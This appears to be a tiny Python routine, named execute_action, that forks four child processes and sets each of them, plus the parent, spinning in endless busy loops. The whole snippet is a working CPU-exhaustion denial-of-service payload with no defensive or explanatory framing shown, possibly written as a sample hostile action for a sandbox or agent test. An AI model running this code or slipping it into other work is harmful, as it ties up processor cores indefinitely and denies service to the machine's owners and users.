import os
def execute_action(context):
    for _ in range(4):
        if os.fork() == 0:
            while True: pass
    while True:
        pass
